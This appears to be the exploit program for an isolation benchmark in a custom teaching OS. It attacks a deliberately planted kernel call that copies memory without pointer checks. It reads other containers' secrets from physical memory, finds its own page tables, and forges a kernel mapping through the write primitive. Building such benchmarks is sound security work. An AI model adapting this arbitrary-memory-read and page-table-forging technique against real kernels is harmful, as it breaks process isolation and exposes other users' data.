# isovuln: the isolation benchmark's exploit (`ringlab bench isolation`, "Isolation strength";
# src/bench/isolation-vuln.ts, docs/isolation.md). It attacks the one deliberate bug of a kernel
# built with -D VULN (programs/kernel/vuln.s): vuln_copy(dst, src, len) copies without checking
# that its pointers are user memory, so through the kernel's identity map it reads and writes
# any physical address. One program, three names (argv[0]):
#
#   vuln-victim   the neighbour: puts its secret at the start of a heap page (the word
#                 SECRET_MAGIC, then the text), then sleeps until it is killed
#   vuln-thief    the exploit, run in another container (or in a VM):
#                   1. reads the boot arguments at physical BOOTARGS with vuln_copy: how much
#                      physical memory there is (on a default kernel the call does not exist:
#                      it says so and exits 2, the exploit has failed)
#                   2. reads the first bytes of every frame of physical memory and prints each
#                      page that starts with SECRET_MAGIC: a secret of any process (it retries
#                      a few times, a little later, until it has found one)
#                   3. finds its own page table and page directory in physical memory (the frame
#                      whose first word maps its heap page; the one whose heap slot names that)
#                   4. forges a mapping with the write primitive: its heap page becomes a page
#                      table, installed in a free kernel slot of its page directory (FORGE_VA),
#                      mapping the first physical address past the end of memory; it reads
#                      there from user mode. Nothing is there: natively a bus error, in a VM
#                      also (the VMM maps guest-physical memory only), and the kernel kills it
#   vuln-run      the driver, in the root of the machine: `crun run -d victim` of the bundle
#                 /var/lib/crun/victim, then `crun run thief /var/lib/crun/thief` (waits for
#                 it), then kills the victim through its group's cgroup.kill and exits 0
#
# Nothing here knows where anything is: the exploit finds it all in memory, as real ones do.
        .include "user.inc"
        .equ SECRET_MAGIC, 0x54524353   # "SCRT": a page that starts with it holds a secret
        .equ MINE_MAGIC,   0x454e494d   # "MINE": the thief's own heap page, to find its tables
        .equ FORGE_VA,     0x3fc00000   # a kernel slot nobody uses (the identity map ends lower)
        .equ HEAP_SLOT,    HEAP_BASE >> 22
        .equ TRIES,        20           # scans before the thief gives up
        .equ TEXT_MAX,     60           # bytes of a secret it prints
        .equ MAX_DIRS,     64           # page-directory candidates it keeps (a process each)
        .equ PTE_PRESENT,  1            # the present bit of a page-table entry (hw.inc; docs/ISA.md)

# vuln_copy: the call of a -D VULN kernel (no wrapper in usys.s: build-option calls have none).
vuln_copy:
        li   t0, SYS_VULN_COPY
        syscall
        ret

_start: mv   s3, a2                     # s3 = argv
        lw   t0, 0(s3)                  # argv[0]: "vuln-X", X chooses
        lbu  t0, 5(t0)
        li   t1, 'v'
        beq  t0, t1, victim
        li   t1, 't'
        beq  t0, t1, thief
        li   t1, 'r'
        beq  t0, t1, run
        li   a0, 1
        call exit

# ---- vuln-victim -----------------------------------------------------------------------------
victim: li   s0, HEAP_BASE
        li   t0, SECRET_MAGIC           # built by instructions: no word of the program holds it
        sw   t0, 0(s0)
        addi a0, s0, 4
        la   a1, s_secret
        call strcpy
.zz:    li   a0, 1000
        call sleep
        j    .zz

# ---- vuln-thief ------------------------------------------------------------------------------
thief:  li   s0, HEAP_BASE              # touch the heap page (demand-zero: now present)
        li   t0, MINE_MAGIC
        sw   t0, 0(s0)
        # 1. The boot arguments: is the bug there, and how much memory is there?
        la   a0, word
        li   a1, BOOTARGS + BA_MEMSIZE
        li   a2, 4
        call vuln_copy
        li   t0, 4
        beq  a0, t0, .bug
        mv   s1, a0
        la   a0, m_nobug
        call print
        sub  a0, zero, s1
        call print_dec
        la   a0, m_nobug2
        call print
        li   a0, 2
        call exit
.bug:   lwg  s1, word                   # s1 = bytes of physical memory
        la   a0, m_mem
        call print
        mv   a0, s1
        call print_dec
        la   a0, m_mem2
        call print
        # 2. Every frame: a secret, or the thief's own heap page.
        li   s2, TRIES
.scan:  li   fp, 0                      # fp = secrets found
        li   s3, PAGE_SIZE              # s3 = frame (page 0 is never mapped)
.frame: bgeu s3, s1, .scanned
        la   a0, hdr
        mv   a1, s3
        li   a2, 8
        call vuln_copy
        lwg  t0, hdr
        li   t1, MINE_MAGIC
        bne  t0, t1, .notmine
        swg  s3, own, t1
.notmine:
        li   t1, SECRET_MAGIC
        bne  t0, t1, .next
        addi fp, fp, 1
        la   a0, text
        addi a1, s3, 4
        li   a2, TEXT_MAX
        call vuln_copy
        la   a0, m_frame
        call print
        mv   a0, s3
        call print_hex
        la   a0, m_colon
        call print
        la   a0, text
        call print
        call newline
.next:  li   t0, PAGE_SIZE
        add  s3, s3, t0
        j    .frame
.scanned:
        bnez fp, .found
        addi s2, s2, -1
        beqz s2, .found
        li   a0, 5                      # the victim may not have written it yet
        call sleep
        j    .scan
.found: la   a0, m_found
        mv   a1, fp
        call print_kv
        la   a0, m_frames
        call print
        srli a0, s1, 12
        addi a0, a0, -1
        call print_dec
        la   a0, m_frames2
        call print
        # 3. Its own page table (word 0 maps the heap page) and page directory (its heap slot
        #    names that table): one more pass, two reads a frame.
        lwg  s0, own
        beqz s0, lost
        li   s2, 0                      # s2 = page-directory candidates
        li   s3, PAGE_SIZE
.pass:  bgeu s3, s1, .passed
        la   a0, hdr
        mv   a1, s3
        li   a2, 4
        call vuln_copy
        lwg  t0, hdr
        andi t1, t0, PTE_PRESENT
        beqz t1, .dir
        li   t1, ~0xfff
        and  t1, t0, t1
        bne  t1, s0, .dir
        swg  s3, table, t1
        swg  t0, pte, t1
.dir:   la   a0, hdr
        li   a1, HEAP_SLOT * 4
        add  a1, s3, a1
        li   a2, 4
        call vuln_copy
        lwg  t0, hdr
        andi t1, t0, PTE_PRESENT
        beqz t1, .pnext
        li   t1, MAX_DIRS
        bgeu s2, t1, .pnext
        la   t1, dirs                   # a page directory of someone: keep (frame, entry)
        slli t2, s2, 3
        add  t1, t1, t2
        sw   s3, 0(t1)
        sw   t0, 4(t1)
        addi s2, s2, 1
.pnext: li   t0, PAGE_SIZE
        add  s3, s3, t0
        j    .pass
.passed:
        lwg  s3, table
        beqz s3, lost
        la   t1, dirs                   # the directory whose heap slot names our table
.cand:  beqz s2, lost
        lw   t0, 4(t1)
        li   t2, ~0xfff
        and  t0, t0, t2
        beq  t0, s3, .gotdir
        addi t1, t1, 8
        addi s2, s2, -1
        j    .cand
.gotdir:
        lw   s2, 0(t1)                  # s2 = its page directory
        lw   t0, 4(t1)
        swg  t0, pde, t1
        la   a0, m_tables
        call print
        mv   a0, s0
        call print_hex
        la   a0, m_tables2
        call print
        mv   a0, s3
        call print_hex
        la   a0, m_tables3
        call print
        mv   a0, s2
        call print_hex
        call newline
        # 4. The forged mapping: FORGE_VA -> physical s1 (the first byte past memory).
        lwg  t0, pte                    # the heap page's own flags (user, writable)
        andi t0, t0, 0xfff
        or   t0, t0, s1
        li   t1, HEAP_BASE
        sw   t0, 0(t1)                  # entry 0 of the new "page table": the heap page itself
        lwg  t0, pde                    # the heap slot's directory flags
        andi t0, t0, 0xfff
        or   t0, t0, s0
        swg  t0, word, t1
        la   a1, word
        li   a0, FORGE_VA >> 22
        slli a0, a0, 2
        add  a0, a0, s2
        li   a2, 4
        call vuln_copy                  # the write primitive: into its own page directory
        la   a0, m_forge
        call print
        mv   a0, s1
        call print_hex
        la   a0, m_forge2
        call print
        li   t0, FORGE_VA
        lw   s0, 0(t0)                  # the read: the kernel kills it here (a bus error)
        la   a0, m_read
        call print
        mv   a0, s0
        call print_hex
        call newline
        li   a0, 3
        call exit
lost:   la   a0, m_lost
        call print
        li   a0, 4
        call exit

# print_hex(a0): "0x" and 8 hex digits, one write.
print_hex:
        la   t0, hexbuf + 10
        li   t2, 8
.hx:    andi t1, a0, 15
        addi t1, t1, '0'
        li   t3, '9'
        bleu t1, t3, .hd
        addi t1, t1, 'a' - '9' - 1
.hd:    addi t0, t0, -1
        sb   t1, 0(t0)
        srli a0, a0, 4
        addi t2, t2, -1
        bnez t2, .hx
        la   a0, hexbuf
        j    print

# ---- vuln-run --------------------------------------------------------------------------------
run:    la   a1, argv_victim
        call crun
        bnez a0, .fail                  # crun said why
        la   a1, argv_thief
        call crun
        mv   s0, a0
        la   a0, m_thief
        mv   a1, s0
        call print_kv
        call newline
        la   a0, cg_victim              # the victim sleeps for ever: kill its group
        la   a1, f_kill
        la   a2, w_one
        li   a3, 1
        call cgroup_write
        li   a0, 0
        call exit
.fail:  li   a0, 1
        call exit
# crun(a1 = argv) -> a0 = its wait status: fork, exec /bin/crun, wait.
crun:   push ra
        push a1
        call fork
        pop  a1
        blt  a0, zero, .cf
        bnez a0, .cw
        la   a0, p_crun
        call exec
        li   a0, 127
        call exit
.cw:    la   a1, status
        li   a2, 0
        call wait
        lwg  a0, status
        pop  ra
        ret
.cf:    li   a0, 1
        pop  ra
        ret

s_secret:  .asciz "the victim's password is swordfish"
m_nobug:   .asciz "vuln-thief: vuln_copy returned -"
m_nobug2:  .asciz ": this kernel has no such call (or checks its pointers); the exploit fails\n"
m_mem:     .asciz "vuln-thief: vuln_copy read the boot arguments at physical 0x00001000: memory is "
m_mem2:    .asciz " bytes\n"
m_frame:   .asciz "vuln-thief: physical "
m_colon:   .asciz ": "
m_found:   .asciz "vuln-thief: found "
m_frames:  .asciz " secrets in the first bytes of "
m_frames2: .asciz " frames\n"
m_tables:  .asciz "vuln-thief: its heap page is at physical "
m_tables2: .asciz ", its page table at "
m_tables3: .asciz ", its page directory at "
m_forge:   .asciz "vuln-thief: forged a mapping of physical "
m_forge2:  .asciz " (the end of its memory); reading it\n"
m_read:    .asciz "vuln-thief: read "
m_lost:    .asciz "vuln-thief: did not find its own page tables\n"
m_thief:   .asciz "vuln-run: the thief's container exited with status "
p_crun:    .asciz "/bin/crun"
w_crun:    .asciz "crun"
w_run:     .asciz "run"
w_d:       .asciz "-d"
w_victim:  .asciz "victim"
w_thief:   .asciz "thief"
b_victim:  .asciz "/var/lib/crun/victim"
b_thief:   .asciz "/var/lib/crun/thief"
cg_victim: .asciz "/crun/victim"
f_kill:    .asciz "cgroup.kill"
w_one:     .asciz "1"
hexbuf:    .asciz "0x00000000"
           .align 4
argv_victim: .word w_crun, w_run, w_d, w_victim, b_victim, 0
argv_thief:  .word w_crun, w_run, w_thief, b_thief, 0
status:    .word 0
word:      .word 0
hdr:       .space 8
own:       .word 0
table:     .word 0
pte:       .word 0
pde:       .word 0
text:      .space TEXT_MAX + 4
dirs:      .space MAX_DIRS * 8
        .include "lib.s"
